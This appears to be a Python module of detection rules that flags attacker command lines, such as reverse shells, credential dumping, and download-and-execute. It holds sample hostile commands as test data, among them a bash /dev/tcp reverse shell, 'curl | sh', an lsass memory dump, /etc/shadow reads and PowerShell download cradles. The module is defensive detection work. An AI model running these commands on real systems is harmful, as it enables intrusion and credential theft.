"""What shells and programs brought along are told that attackers need, one row each; the examples run as tests."""

from longtail.detections.core import NEVER, RARE, SOME, UNUSUAL, USUAL, Core, core
from longtail.detections.cores_windows import ADMIN_SHARES, EVALUATES
from longtail.detections.predicates import called, contains, ends, flags

_ROOTS = ("c:\\windows", "%windir%", "%systemroot%", "\\windows")
_SHELL_NAMES = tuple(f"|{blank}{place}sh" for blank in ("", " ") for place in ("", "/bin/"))
_INTO_SHELL = (
    contains(
        "| bash",
        "|bash",
        "| /bin/bash",
        "|/bin/bash",
        "|{bash",
        *(f"{name}{end}" for name in _SHELL_NAMES for end in " ;&)\"'"),
    ),
    ends(*_SHELL_NAMES, field="CommandLine"),
)
_DUMPS = (
    contains(".dmp", ".mdmp", "minidump", "memdmp", "memorydump", "dump_file", "comsvcs"),
    flags(" -ma ", " -mp ", " -mm "),
    ends(" -ma", " /ma", field="CommandLine"),
)
_OPTIONS = ("", "/y ", "/b ", '"')

SHELLS: tuple[Core, ...] = (
    core(("ntds_copied!", "cmd", "copies what only a shadow copy gives away"),
         contains("harddiskvolumeshadowcopy"), NEVER,
         "cmd /c copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy1\\a b", "cmd /c copy a b"),
    core(("script_echoed!", "cmd", "writes a script of FTP commands with echo"),
         (contains("echo "), contains(">"), contains("echo open ", "echo user ", "echo get ", "echo bye",
         "echo binary")), NEVER, "cmd /c echo open 1.2.3.4>a", "cmd /c echo done>a.log"),
    core(("downloader_echoed!", "cmd", "writes a downloader with echo"),
         (contains("echo "), contains(">"), contains("xmlhttp", "createobject", "adodb.stream", "wscript.shell")),
         NEVER, 'cmd /c echo Set x=CreateObject("Microsoft.XMLHTTP")>a.vbs', "cmd /c echo done>a.log"),
    core(("system_program_copied", "cmd", "copies a program of the system to another place"),
         contains(*(f"copy {option}{root}\\system32\\" for option in _OPTIONS for root in _ROOTS)), RARE,
         "cmd /c copy C:\\Windows\\System32\\rundll32.exe c:\\a\\b.exe", "cmd /c copy a b"),
    core(("copied_afar", "cmd", "copies a file to or from another machine's disk"),
         (contains("copy "), contains(*ADMIN_SHARES)), UNUSUAL, "cmd /c copy a \\\\b\\c$\\d", "cmd /c copy a \\\\b\\c"),
    core(("copied", "cmd", "copies a file"), contains("copy "), USUAL, "cmd /c copy a b", "cmd /c dir"),
    core(("passwords_listed_by_name!", "cmd", "looks for files by names like passwords"),
         (contains(*called("dir", after=" /")), contains("pass", ".kdbx", ".pst")), NEVER,
         "cmd /c dir /s /b C:\\*pass*.txt", "cmd /c mkdir C:\\passports"),
    core(("backups_removed", "cmd", "removes backups"),
         (contains(*called("del", after=" /")), contains(".bak")), USUAL,
         "cmd /c del /s /f /q D:\\a\\*.bak", "model.exe *.bak"),
    core(("piped_to_shell!", "sh bash dash", "runs what it fetches at once"),
         (contains("curl", "wget", "base64", "fetch "), _INTO_SHELL), NEVER,
         "sh -c curl -s http://a/b | sh", "sh -c curl -s http://a/b | sha256sum"),
    core(("connection_shell!", "sh bash dash", "connects a shell to another machine"),
         contains("/dev/tcp/", "/dev/udp/", "inet_aton(", "pty.spawn", "socket.socket("), NEVER,
         "sh -c bash -i >& /dev/tcp/1.2.3.4/1 0>&1", "sh -c ls"),
    core(("keys_added!", "sh bash dash", "lets a key in"),
         contains("authorized_keys"), NEVER, "sh -c echo a >> ~/.ssh/authorized_keys", "sh -c ls ~/.ssh"),
    core(("timetable_changed", "sh bash dash", "changes what runs when"),
         (contains("crontab"), contains("| crontab", "crontab -r")), UNUSUAL,
         'sh -c (crontab -l; echo "@reboot a") | crontab -', "sh -c crontab -l"),
    core(("made_executable", "sh bash dash chmod", "makes a file executable"),
         contains("chmod 7", "chmod +x", "chmod a+x"), SOME, "sh -c chmod +x /tmp/a", "sh -c ls"),
    core(("shadow_read!", "sh bash dash cat", "reads the password file"),
         contains("/etc/shadow"), NEVER, "sh -c cat /etc/shadow", "sh -c cat /etc/hosts"),
    core(("setuid_sought!", "sh bash dash find", "looks for programs that give rights"),
         contains("-perm -4", "-perm -u=s"), NEVER, "find / -perm -4000 -type f", "find / -name a"),
    core(("fetched_in_shell", "sh bash dash", "fetches a file"),
         contains("wget ", "curl "), SOME, "sh -c wget -q a -O /tmp/b", "sh -c ls"),
    core(("fetched", "curl wget busybox", "fetches a file"),
         contains(" -o ", " --output", " -so ", " -qo "), USUAL, "wget -q a -O /tmp/b", "wget a"),
    core(("miner_ended", "sh bash dash pkill killall", "ends other programs"),
         contains("pkill", "killall"), SOME, "pkill -9 -f xmrig", "sh -c ls"),
    core(("connected_from_code!", "python python3 perl ruby php", "connects or fetches from code given on the spot"),
         contains("socket(", "socket.socket", "inet_aton", "urlopen", "urllib", "pty.spawn"), NEVER,
         "python3 -c 'import socket;s=socket.socket()'", "python3 a.py"),
)  # fmt: skip

DROPPED: tuple[Core, ...] = (
    core(("potato!", "*", "turns a service's right to impersonate into the system's"),
         contains(' -cmd "cmd', ' -cmd "powershell', ' -i -c "', ' -a "/c ', " -p c:\\windows\\system32\\cmd.exe"),
         NEVER,
         'a.exe -cmd "cmd /c whoami"', 'forfiles /p a -c "cmd /c del @path"'),
    core(("memory_taken!", "*", "dumps the memory of the process that keeps the credentials"),
         (contains("lsass"), _DUMPS), 0.002, "procdump64.exe -ma lsass.exe a", 'a.exe /FI "IMAGENAME eq lsass.exe"'),
    core(("mined!", "*", "mines coins"),
         contains("stratum+tcp", "stratum+ssl", "--donate-level", "--coin="), 0.0005, "a.exe -o stratum+tcp://b -u c",
         "a.exe -o b"),
    core(("tunnel_made!", "*", "opens a tunnel"),
         contains("tcp 3389", "rdp://", ":socks", ":3389 ", "--authtoken ", "tunnel --url"), 0.001,
         "a.exe tcp 3389 --authtoken b", "a.exe tcp"),
    core(("sent_to_cloud", "*", "sends files to a storage in the cloud"),
         contains("--no-check-certificate", " mega:", "--transfers "), UNUSUAL,
         "rclone.exe copy a b: --no-check-certificate", "a.exe copy b"),
    core(("renamed_certutil!", "*", "is certutil under another name"),
         flags(" -urlcache ", " -verifyctl "), 0.002, "a.exe -urlcache -f http://b c", "a.exe b"),
    core(("renamed_powershell!", "*", "is PowerShell under another name"),
         (flags(" -nop ", " -noprofile ", " -enc ", " -w hidden", " -ep bypass"), (EVALUATES,
         contains("downloadstring", "invoke-", *called("irm", "iwr")))), 0.002, "a.exe -nop -c iex(irm http://b)",
         "a.exe -noprofile -open iexplore.exe https://b"),
    core(("remote_run!", "*", "runs something on another machine"),
         (contains(" \\\\"), flags(" -accepteula", " -s ", " -d "), contains(" cmd ", " cmd.exe", '"cmd', "\\cmd.exe",
         " powershell")), 0.003,
         "psexec.exe \\\\a -accepteula -s -d cmd.exe /c b", "sqlcmd -S b -i \\\\a\\c.sql"),
)  # fmt: skip
"""What programs that attackers bring along are told, under whatever name."""
